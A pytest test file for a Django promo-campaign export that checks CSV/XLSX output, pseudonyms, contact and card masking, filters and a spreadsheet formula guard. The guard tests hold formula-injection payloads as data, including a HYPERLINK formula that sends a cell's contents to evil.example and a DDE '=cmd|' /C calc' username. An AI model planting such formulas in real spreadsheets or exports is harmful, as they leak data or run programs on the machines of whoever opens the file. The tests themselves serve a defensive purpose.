"""What an export file holds: columns, pseudonyms, masking, the formula guard, filters, CSV and XLSX alike, and the
cost."""

import csv
import io
import re
import uuid
import zipfile
from datetime import UTC, date, datetime
from datetime import time as dtime
from decimal import Decimal

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from openpyxl import load_workbook

from promo.models import Recognition, Submission
from promo.reasons import MESSAGES, reason
from promo.transitions import codes_column
from reports import exports
from reports.csv_files import CARD_MASK, guard
from reports.exports import ExportFilters
from reports.xlsx import column_letters
from tests.factories import CampaignFactory, ParticipantFactory, RecognitionFactory, SubmissionFactory

Status = Submission.Status
pytestmark = pytest.mark.django_db

# A full card number, as OCR or a moderator might leave it in free text: no 5 of its digits in a row may leave.
PAN = "4276380012345678"


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def campaign(db):
    # UTC+5 all year: a day there starts at 19:00 UTC the day before.
    return CampaignFactory(
        slug="autumn", name="Autumn", timezone="Asia/Yekaterinburg", starts_on=date(2026, 10, 1)
    )


def submit(
    campaign,
    *,
    sent: datetime,
    status: str = Status.ACCEPTED,
    reasons: list | None = None,
    participant=None,
    merchant: str = "MAGNIT",
    decided_by=None,
    typed_amount: str = "1234.50",
    read_amount: str | None = "1234.50",
    **kwargs,
) -> Submission:
    """A decided submission with its reading, sent at `sent` (UTC), with a fixed-digit-free id."""
    reasons = [reason("slip_matches")] if reasons is None else reasons
    kwargs.setdefault("decided_at", sent.replace(second=45))
    # Ids of letters only, unless asked: a random UUID can hold five digits in a row, which the card test
    # looks for (none may leave the file, whatever the column).
    kwargs.setdefault(
        "id", uuid.UUID("abcdefab-cdef-4bcd-abcd-" + f"{uuid.uuid4().int % 16**12:012x}".translate(_LETTERS))
    )
    submission = SubmissionFactory(
        campaign=campaign,
        participant=participant or ParticipantFactory(),
        photo="",
        status=status,
        reasons=reasons,
        reason_codes=codes_column(reasons),
        decided_by=decided_by,
        typed_amount=Decimal(typed_amount),
        **kwargs,
    )
    Submission.objects.filter(pk=submission.pk).update(created_at=sent)
    RecognitionFactory(
        submission=submission,
        campaign=campaign,
        amount=None if read_amount is None else Decimal(read_amount),
        date=date(2026, 10, 5),
        time=dtime(14, 3, 27),
        payment_system="VISA",
        merchant=merchant,
    )
    submission.refresh_from_db()
    return submission


_LETTERS = str.maketrans("0123456789", "abcdefabcd")


def csv_bytes(filters: ExportFilters) -> bytes:
    return b"".join(exports.csv_chunks(filters, language="en"))


def csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def xlsx_bytes(filters: ExportFilters, language: str = "en") -> bytes:
    out = io.BytesIO()
    exports.export_write(filters=filters, fmt="xlsx", out=out, language=language)
    return out.getvalue()


def xlsx_rows(filters: ExportFilters) -> list[list[str]]:
    """The XLSX's rows as text in the CSV's formatting of values (but no formula guard, no card mark: those are
    the CSV's own), every sheet after the other, headers included."""
    workbook = load_workbook(io.BytesIO(xlsx_bytes(filters)), read_only=True)
    names = [key for key, _ in exports.COLUMNS]
    rows = []
    for sheet in workbook.worksheets:
        for values in sheet.iter_rows(values_only=True):
            rows.append([_xlsx_text(name, value) for name, value in zip(names, values, strict=True)])
    return rows


def csv_cell(value) -> str:
    """The CSV's text of a typed cell, written out here as the reference the export's own row formatter (inlined
    for speed) is held to: amounts `1234.50` with no grouping, times to the second, a slip's time to the minute."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, dtime):
        return value.isoformat(timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def card_cell(last4: str) -> str:
    return CARD_MASK + last4 if last4 else ""


def _xlsx_text(name: str, value) -> str:
    """A cell as read back, in the CSV's text: amounts are numbers there, a date reads back as a datetime."""
    if isinstance(value, float | int):
        return csv_cell(Decimal(str(value)))
    if name == "slip_date" and isinstance(value, datetime):
        return csv_cell(value.date())
    return csv_cell(value)


def column(name: str) -> int:
    return [key for key, _ in exports.COLUMNS].index(name)


def as_the_csv_writes(xlsx_row: list[str]) -> list[str]:
    """An XLSX row's text with what only the CSV adds: the apostrophe before a formula, the card tail's mark."""
    cells = [guard(cell) for cell in xlsx_row]
    for name in ("submission", "participant"):
        cells[column(name)] = xlsx_row[column(name)]
    for name in ("typed_card_last4", "read_card_last4"):
        cells[column(name)] = card_cell(xlsx_row[column(name)])
    return cells


def test_csv_starts_with_a_bom_and_a_semicolon_separated_header_in_the_readers_language(campaign):
    submit(campaign, sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC))
    data = csv_bytes(ExportFilters(campaign=campaign))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.split(b"\r\n")[0].decode("utf-8-sig").split(";") == [
        "submission", "sent at", "status", "reason codes", "reasons", "decided at", "decided by",
        "typed amount", "read amount", "slip date", "slip time", "payment system", "merchant",
        "card last 4 (typed)", "card last 4 (read)", "contact (masked)", "participant",
    ]  # fmt: skip
    assert data.count(b"\r\n") == 2  # header and one row, each ended by CRLF
    russian = b"".join(exports.csv_chunks(ExportFilters(campaign=campaign), language="ru"))
    assert russian.decode("utf-8-sig").split("\r\n")[0].split(";")[2] == "статус"


def test_a_row_says_what_was_sent_read_and_decided_in_the_campaigns_time(campaign):
    moderator = User.objects.create_user("olga", is_staff=True)
    person = ParticipantFactory(contact="+79991234567")
    accepted = submit(
        campaign, sent=datetime(2026, 10, 5, 20, 30, 12, 654321, tzinfo=UTC), participant=person
    )
    rejected = submit(
        campaign,
        sent=datetime(2026, 10, 6, 8, 0, tzinfo=UTC),
        status=Status.REJECTED,
        reasons=[reason("moderator_rejected", note="blurred"), reason("low_confidence", field="amount")],
        decided_by=moderator,
        typed_amount="99.00",
        read_amount=None,
        participant=person,
    )
    _header, first, second = csv_rows(csv_bytes(ExportFilters(campaign=campaign)))
    assert first == [
        exports.submission_pseudonym(accepted.pk),
        "2026-10-06 01:30:12",  # 20:30 UTC is past midnight in Yekaterinburg
        "accepted",
        "slip_matches",
        "The slip matches what you typed and was printed during the campaign.",
        "2026-10-06 01:30:45",
        "automatic",
        "1234.50",
        "1234.50",
        "2026-10-05",
        "14:03",
        "VISA",
        "MAGNIT",
        "•••• 4821",  # Excel keeps it as text, a leading zero included
        "•••• 4821",
        "'+7******4567",  # guarded: a cell starting with + is a formula to a spreadsheet
        exports.pseudonym(person.pk),
    ]
    assert second[0] == exports.submission_pseudonym(rejected.pk)
    assert second[column("status")] == "rejected"
    assert second[column("reason_codes")] == "moderator_rejected, low_confidence"
    assert second[column("reasons")] == (
        "A moderator checked the slip and rejected it: blurred | "
        "We are not sure we read the amount correctly; a moderator will check it."
    )
    assert second[column("decided_by")] == "olga"
    assert (second[column("typed_amount")], second[column("read_amount")]) == ("99.00", "")
    assert second[column("participant")] == first[column("participant")]  # one person, one pseudonym


def test_a_person_whose_account_is_gone_is_not_called_automatic(campaign):
    submit(
        campaign,
        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
        reasons=[reason("moderator_accepted")],
    )
    submit(campaign, sent=datetime(2026, 10, 5, 10, 0, tzinfo=UTC), status=Status.RECEIVED, decided_at=None)
    rows = csv_rows(csv_bytes(ExportFilters(campaign=campaign)))[1:]
    assert [row[column("decided_by")] for row in rows] == ["a moderator", ""]


def test_no_card_number_leaves_in_either_format(campaign):
    submit(
        campaign,
        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
        status=Status.REJECTED,
        merchant=f"SHOP {PAN[:4]} {PAN[4:8]} {PAN[8:12]} {PAN[12:]}",
        reasons=[reason("moderator_rejected", note=f"someone else's card {PAN}")],
        typed_amount="987654.32",  # six digits in a row, none of the card's
    )
    submit(campaign, sent=datetime(2026, 10, 5, 10, 0, tzinfo=UTC), merchant=f"card:{PAN}")
    filters = ExportFilters(campaign=campaign)
    data = csv_bytes(filters)
    digits_only = re.sub(rb"\D", b"", data)  # whatever separates the digits
    windows = {PAN[i : i + 5] for i in range(len(PAN) - 4)}
    assert not any(window.encode() in data for window in windows)
    assert PAN[:8].encode() not in digits_only  # not even spread over separators
    for rows in (csv_rows(data), xlsx_rows(filters)):
        for row in rows[1:]:
            for name, cell in zip((key for key, _ in exports.COLUMNS), row, strict=True):
                if name not in ("typed_amount", "read_amount"):
                    assert not re.search(r"\d{5,}", cell), (name, cell)
            assert re.fullmatch(r"(•••• )?\d{4}", row[column("typed_card_last4")])
            assert re.fullmatch(r"(•••• )?\d{4}", row[column("read_card_last4")])
    assert "1234" not in csv_rows(data)[1][column("merchant")].replace("5678", "")
    assert csv_rows(data)[1][column("merchant")].endswith("5678")  # the last 4 stay, as on the slip


@pytest.mark.parametrize(
    ("contact", "masked"),
    [
        ("+79991234567", "+7******4567"),
        ("+442071234567", "+4*******4567"),
        ("alice@example.com", "a***@example.com"),
        ("a@example.com", "a***@example.com"),
        ("erased-42", "(erased)"),
        ("", "(erased)"),
    ],
)
def test_contacts_are_masked(contact, masked):
    assert exports.mask_contact(contact) == masked


def test_no_contact_leaves_whole(campaign):
    people = [
        ParticipantFactory(contact="+79997654321"),
        ParticipantFactory(contact="maria.petrova@example.com", contact_kind="email"),
        ParticipantFactory(contact="erased-77"),
    ]
    for i, person in enumerate(people):
        submit(campaign, sent=datetime(2026, 10, 5, 9, i, tzinfo=UTC), participant=person)
    data = csv_bytes(ExportFilters(campaign=campaign)).decode("utf-8-sig")
    for whole in ("79997654321", "9997654321", "maria.petrova", "erased-77"):
        assert whole not in data
    contacts = [row[column("contact")] for row in csv_rows(data.encode("utf-8-sig"))[1:]]
    assert contacts == ["'+7******4321", "m***@example.com", "(erased)"]


def test_pseudonyms_are_stable_distinct_and_never_numbers():
    first, again, other = exports.pseudonym(1), exports.pseudonym(1), exports.pseudonym(2)
    assert first == again != other
    assert re.fullmatch(r"P-[a-z]{12}", first)


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("MAGNIT = good", "MAGNIT = good"),
        ("", ""),
    ],
)
def test_the_formula_guard(text, guarded):
    assert guard(text) == guarded


def test_formulas_from_ocr_and_usernames_arrive_as_text_in_both_formats(campaign):
    """The CSV puts an apostrophe before them; the XLSX holds them as text cells, shown as they read, with the
    quote prefix that keeps them text when someone edits the cell."""
    evil = User.objects.create_user("=cmd|' /C calc'!A0", is_staff=True)
    submit(
        campaign,
        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
        merchant='=HYPERLINK("http://evil.example/?"&A1)',
        decided_by=evil,
    )
    submit(campaign, sent=datetime(2026, 10, 5, 9, 1, tzinfo=UTC), merchant="@SUM(1+1)\x07")
    filters = ExportFilters(campaign=campaign)
    first, second = csv_rows(csv_bytes(filters))[1:]
    assert first[column("merchant")] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert first[column("decided_by")] == "'=cmd|' /C calc'!A0"
    assert second[column("merchant")] == "'@SUM(1+1)"  # and no control character (XML cannot hold it)
    sheet = load_workbook(io.BytesIO(xlsx_bytes(filters))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula at all
    merchant, decided_by = sheet.cell(2, column("merchant") + 1), sheet.cell(2, column("decided_by") + 1)
    assert (merchant.value, merchant.data_type, merchant.quotePrefix) == (
        '=HYPERLINK("http://evil.example/?"&A1)',
        "s",
        True,
    )
    assert (decided_by.value, decided_by.quotePrefix) == ("=cmd|' /C calc'!A0", True)
    assert sheet.cell(3, column("merchant") + 1).value == "@SUM(1+1)"
    assert not sheet.cell(2, column("payment_system") + 1).quotePrefix  # plain text stays plain


def test_filters_by_period_in_the_campaigns_days_status_and_reason(campaign):
    before = submit(campaign, sent=datetime(2026, 10, 4, 18, 59, tzinfo=UTC))  # Oct 4, 23:59 local
    first = submit(campaign, sent=datetime(2026, 10, 4, 19, 0, tzinfo=UTC))  # Oct 5, 00:00 local
    rejected = submit(
        campaign,
        sent=datetime(2026, 10, 6, 12, 0, tzinfo=UTC),
        status=Status.REJECTED,
        reasons=[reason("amount_mismatch", read="1.00", typed="2.00"), reason("card_unread")],
    )
    last = submit(campaign, sent=datetime(2026, 10, 7, 18, 59, tzinfo=UTC))  # Oct 7, 23:59 local
    after = submit(campaign, sent=datetime(2026, 10, 7, 19, 0, tzinfo=UTC))  # Oct 8 local
    submit(CampaignFactory(slug="other"), sent=datetime(2026, 10, 6, 12, 0, tzinfo=UTC))

    def ids(**filters) -> list[str]:
        return [row[0] for row in exports.export_rows(ExportFilters(campaign=campaign, **filters))]

    def named(*submissions) -> list[str]:
        return [exports.submission_pseudonym(s.pk) for s in submissions]

    assert ids() == named(before, first, rejected, last, after)
    period = {"date_from": date(2026, 10, 5), "date_to": date(2026, 10, 7)}
    assert ids(**period) == named(first, rejected, last)
    assert ids(date_from=date(2026, 10, 8)) == named(after)
    assert ids(status=Status.REJECTED) == named(rejected)
    assert ids(reason="card_unread") == named(rejected)
    assert ids(reason="card") == []  # a code, not a fragment of one
    assert ids(status=Status.ACCEPTED, **period) == named(first, last)
    assert exports.export_count(ExportFilters(campaign=campaign, **period)) == 3


def test_filters_survive_the_jobs_json(campaign):
    filters = ExportFilters(
        campaign=campaign, date_from=date(2026, 10, 5), date_to=None, status="rejected", reason="refund"
    )
    assert ExportFilters.from_json(campaign, filters.as_json()) == filters
    assert ExportFilters.from_json(campaign, {}) == ExportFilters(campaign=campaign)


def test_xlsx_holds_the_same_rows_as_the_csv(campaign):
    for i in range(3):
        submit(
            campaign,
            sent=datetime(2026, 10, 5, 9, i, 7, tzinfo=UTC),
            status=Status.REJECTED if i else Status.ACCEPTED,
            reasons=[reason("amount_mismatch", read="10.00", typed="12.00")] if i else None,
            typed_amount=f"{1000 + i}.0{i}",
            read_amount=None if i == 2 else "1000.00",
        )
    filters = ExportFilters(campaign=campaign)
    csv_header, *csv_body = csv_rows(csv_bytes(filters))
    xlsx_header, *xlsx_body = xlsx_rows(filters)
    assert xlsx_header == csv_header
    assert [as_the_csv_writes(row) for row in xlsx_body] == csv_body


def test_xlsx_opens_a_new_sheet_with_its_header_when_one_is_full(campaign, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_SHEET_ROWS", 2)
    for i in range(5):
        submit(campaign, sent=datetime(2026, 10, 5, 9, i, tzinfo=UTC))
    out = io.BytesIO()
    assert (
        exports.export_write(filters=ExportFilters(campaign=campaign), fmt="xlsx", out=out, language="en")
        == 5
    )
    out.seek(0)
    workbook = load_workbook(out, read_only=True)
    assert workbook.sheetnames == ["Submissions", "Submissions 2", "Submissions 3"]
    sizes = [len(list(sheet.iter_rows(values_only=True))) for sheet in workbook.worksheets]
    assert sizes == [3, 3, 2]  # each with its header


def test_an_empty_export_still_has_its_header(campaign):
    filters = ExportFilters(campaign=campaign)
    assert csv_rows(csv_bytes(filters)) == [exports.header()]
    assert xlsx_rows(filters) == [exports.header()]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_queries_do_not_grow_with_the_rows(campaign, monkeypatch, fmt):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 4)  # several fetches from the cursor
    moderator = User.objects.create_user("olga", is_staff=True)

    def queries_for_an_export() -> int:
        with CaptureQueriesContext(connection) as queries:
            exports.export_write(filters=ExportFilters(campaign=campaign), fmt=fmt, out=io.BytesIO())
        return len(queries)

    submit(campaign, sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC), decided_by=moderator)
    one = queries_for_an_export()
    for i in range(1, 20):
        submit(campaign, sent=datetime(2026, 10, 5, 9, i, tzinfo=UTC), decided_by=moderator)
    assert queries_for_an_export() == one == 1


def test_the_query_selects_only_the_exported_columns(campaign):
    with CaptureQueriesContext(connection) as queries:
        list(exports.export_rows(ExportFilters(campaign=campaign)))
    sql = queries[0]["sql"].lower()
    for unneeded in ("photo_sha256", "full_text", "lines", "checks", "claim_token", "phash"):
        assert unneeded not in sql


# --- the submission's id never leaves --------------------------------------------------------------------------


def all_xlsx_text(data: bytes) -> str:
    """Every part of the workbook as text: cells, sheet names, defined names."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return "".join(book.read(name).decode("utf-8") for name in book.namelist())


def id_forms(submission: Submission) -> list[str]:
    """How a submission's id may be written: the status page's URL form, without dashes, in capitals."""
    return [
        str(submission.pk),
        submission.pk.hex,
        str(submission.pk).upper(),
        str(submission.pk).split("-")[0],
    ]


def test_no_submission_id_leaves_anywhere_in_either_format(campaign):
    """The id opens the participant's status page and API answer without a login (promo code, appeal): the row
    has a pseudonym instead, and an id quoted in a moderator's note becomes that submission's pseudonym."""
    earlier = submit(campaign, sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC), id=uuid.uuid4())
    later = SubmissionFactory.build().pk  # any id, with digits
    copy = submit(
        campaign,
        sent=datetime(2026, 10, 5, 10, 0, tzinfo=UTC),
        status=Status.REJECTED,
        id=later,
        reasons=[
            reason(
                "moderator_rejected",
                note=f"копия {earlier.pk}, см. /s/{earlier.pk}/ и {earlier.pk.hex.upper()}; сама {later}",
            )
        ],
    )
    filters = ExportFilters(campaign=campaign)
    csv_text = csv_bytes(filters).decode("utf-8-sig")
    xlsx_text = all_xlsx_text(xlsx_bytes(filters))
    for submission in (earlier, copy):
        for form in id_forms(submission):
            assert form not in csv_text, form
            assert form not in xlsx_text, form
    rows = csv_rows(csv_bytes(filters))[1:]
    assert [row[column("submission")] for row in rows] == [
        exports.submission_pseudonym(earlier.pk),
        exports.submission_pseudonym(copy.pk),
    ]
    note = rows[1][column("reasons")]
    named = exports.submission_pseudonym(earlier.pk)
    assert note.count(named) == 3  # a marketer can still find the row the note meant
    assert f"сама {exports.submission_pseudonym(copy.pk)}" in note
    assert xlsx_rows(filters)[2][column("reasons")] == note


def test_submission_pseudonyms_are_stable_and_never_a_participants():
    submission_id = uuid.UUID("12345678-1234-4234-8234-123456789012")
    first = exports.submission_pseudonym(submission_id)
    assert (
        first
        == exports.submission_pseudonym(str(submission_id))
        == exports.submission_pseudonym(submission_id)
    )
    assert re.fullmatch(r"S-[a-z]{12}", first)
    assert first != exports.submission_pseudonym(uuid.UUID(int=submission_id.int + 1))
    # A key of its own: the same value named as a participant and as a submission gives unrelated letters.
    assert exports._letters(b"42", "secret", "participant") != exports._letters(b"42", "secret", "submission")
    assert exports.pseudonym(42).startswith("P-")


def test_pseudonyms_do_not_change_with_the_code(settings):
    """A marketer compares files exported months apart: a name computed today is the one computed before (the
    participant's as it was before submissions had one)."""
    settings.SECRET_KEY = "pinned-secret-key-for-the-test"
    assert exports.pseudonym(4242) == "P-asrkukphfnhm"
    assert exports.submission_pseudonym("12345678-1234-4234-8234-123456789012") == "S-udvcgybyumaq"


def test_the_pseudonym_is_the_same_in_every_export_and_follows_the_secret_key(campaign, settings):
    submission = submit(campaign, sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC))
    filters = ExportFilters(campaign=campaign)
    once = csv_rows(csv_bytes(filters))[1][0]
    assert csv_rows(csv_bytes(ExportFilters(campaign=campaign, status=Status.ACCEPTED)))[1][0] == once
    assert xlsx_rows(filters)[1][0] == once
    settings.SECRET_KEY = "another-secret-key-" + "x" * 40
    assert exports.submission_pseudonym(submission.pk) != once  # not a hash anyone can compute from the id


# --- contacts in free text -----------------------------------------------------------------------------------


def test_contacts_in_a_moderators_note_and_a_merchant_line_are_masked_in_both_formats(campaign):
    submit(
        campaign,
        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
        status=Status.REJECTED,
        merchant="ООО Ромашка тел. 8 (495) 123-45-67",
        reasons=[
            reason("moderator_rejected", note="писал с ivan.petrov@mail.ru, тел. +7 916 123-45-67"),
            reason("amount_mismatch", read="1234.50", typed="1243.50"),
        ],
    )
    filters = ExportFilters(campaign=campaign)
    for rows in (csv_rows(csv_bytes(filters)), xlsx_rows(filters)):
        row = rows[1]
        assert row[column("reasons")] == (
            "A moderator checked the slip and rejected it: писал с i***@mail.ru, тел. +7******4567 | "
            "The amount on the slip (1,234.50) differs from the amount you typed (1,243.50)."
        )
        assert row[column("merchant")] == "ООО Ромашка тел. +7******4567"
    data = csv_bytes(filters).decode("utf-8-sig") + all_xlsx_text(xlsx_bytes(filters))
    for whole in ("ivan.petrov", "916 123", "123-45-67", "495"):
        assert whole not in data


# --- numbers and card tails as Excel reads them ------------------------------------------------------------------


def test_csv_amounts_have_the_readers_decimal_mark(campaign):
    submit(
        campaign,
        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
        typed_amount="523.00",
        read_amount="1234567.80",
    )
    filters = ExportFilters(campaign=campaign)
    russian = csv_rows(b"".join(exports.csv_chunks(filters, language="ru")))[1]
    english = csv_rows(csv_bytes(filters))[1]
    # Russian Excel reads `523,00` as a number (a `;`-separated file: the comma is no separator) and sums it.
    assert (russian[column("typed_amount")], russian[column("read_amount")]) == ("523,00", "1234567,80")
    assert (english[column("typed_amount")], english[column("read_amount")]) == ("523.00", "1234567.80")


def test_a_background_csv_has_the_decimal_mark_of_the_language_it_was_asked_in(campaign):
    submit(campaign, sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC), typed_amount="523.00")
    user = User.objects.create_user("marketing", is_staff=True)
    written = {}
    for language in ("ru", "en"):
        job = exports.export_job_create(
            user=user, filters=ExportFilters(campaign=campaign), fmt="csv", language=language
        )
        exports.export_job_build(job_id=job.pk)
        job.refresh_from_db()
        with job.file.open("rb") as handle:
            written[language] = csv_rows(handle.read())[1][column("typed_amount")]
    assert written == {"ru": "523,00", "en": "523.00"}


def test_card_tails_keep_their_leading_zero_and_never_more_than_four_digits(campaign):
    submit(campaign, sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC), typed_card_last4="0025")
    Recognition.objects.update(card_last4="0007")
    filters = ExportFilters(campaign=campaign)
    row = csv_rows(csv_bytes(filters))[1]
    assert (row[column("typed_card_last4")], row[column("read_card_last4")]) == ("•••• 0025", "•••• 0007")
    sheet = load_workbook(io.BytesIO(xlsx_bytes(filters))).active
    for name, tail in (("typed_card_last4", "0025"), ("read_card_last4", "0007")):
        cell = sheet.cell(2, column(name) + 1)
        assert (cell.value, cell.data_type) == (tail, "s")  # a text cell: Excel keeps the zero
    # Whatever a row holds (PostgreSQL's column takes 4 characters; SQLite's takes any), 4 digits leave.
    assert exports._last4("4276380000000007") == "0007"
    assert card_cell(exports._last4("4276380000000007")) == "•••• 0007"


# --- the XLSX: text as text, a filter on the header, headers that fit --------------------------------------------


def test_the_xlsx_shows_a_masked_phone_without_the_csvs_apostrophe(campaign):
    submit(
        campaign,
        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
        participant=ParticipantFactory(contact="+79991234567"),
    )
    filters = ExportFilters(campaign=campaign)
    assert csv_rows(csv_bytes(filters))[1][column("contact")] == "'+7******4567"
    cell = load_workbook(io.BytesIO(xlsx_bytes(filters))).active.cell(2, column("contact") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("+7******4567", "s", True)


@pytest.mark.parametrize("language", ["ru", "en"])
def test_the_xlsx_header_has_a_filter_and_columns_wide_enough_for_it(campaign, monkeypatch, language):
    monkeypatch.setattr(exports, "XLSX_SHEET_ROWS", 2)
    for i in range(3):
        submit(campaign, sent=datetime(2026, 10, 5, 9, i, tzinfo=UTC))
    workbook = load_workbook(io.BytesIO(xlsx_bytes(ExportFilters(campaign=campaign), language)))
    last = column_letters(len(exports.COLUMNS) - 1)
    assert [sheet.auto_filter.ref for sheet in workbook.worksheets] == [f"A1:{last}3", f"A1:{last}2"]
    sheet = workbook.worksheets[0]
    for index, title in enumerate(cell.value for cell in sheet[1]):
        width = sheet.column_dimensions[column_letters(index)].width
        # A bold header and the filter's button: wider than the title's letters by a fifth and 3 more.
        assert width >= min(exports.XLSX_MAX_WIDTH, len(title) * 1.2 + 3), (title, width)


# --- file names ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("asked", "name"),
    [
        ({}, "autumn-submissions-all-20261201-1430.csv"),
        (
            {"date_from": date(2026, 10, 5), "date_to": date(2026, 10, 7)},
            "autumn-submissions-20261005-20261007-20261201-1430.csv",
        ),
        ({"date_from": date(2026, 10, 5)}, "autumn-submissions-20261005-now-20261201-1430.csv"),
        ({"date_to": date(2026, 10, 7)}, "autumn-submissions-start-20261007-20261201-1430.csv"),
        (
            {"date_from": date(2026, 10, 5), "status": "rejected", "reason": "amount_mismatch"},
            "autumn-submissions-20261005-now-rejected-amount_mismatch-20261201-1430.csv",
        ),
        ({"reason": 'x"/../y'}, "autumn-submissions-all-xy-20261201-1430.csv"),  # nothing but [a-z0-9_]
    ],
)
def test_the_file_name_says_what_was_exported(campaign, asked, name):
    when = datetime(2026, 12, 1, 9, 30, tzinfo=UTC)  # 14:30 in the campaign's zone
    assert (
        exports.download_name(filters=ExportFilters(campaign=campaign, **asked), fmt="csv", when=when) == name
    )


# --- the reason filter -----------------------------------------------------------------------------------------


def test_the_reason_filter_names_reasons_as_the_report_does_and_keeps_the_codes():
    choices = dict(exports.reason_code_choices())
    assert set(choices) == set(MESSAGES)
    assert choices["amount_mismatch"] == "amount differs"
    assert choices["moderator_card_differs"] == "moderator: another card"
    assert not any("_" in label for label in choices.values())  # no code shown raw
    labels = [label for _code, label in exports.reason_code_choices()]
    assert labels == sorted(labels, key=str.casefold)
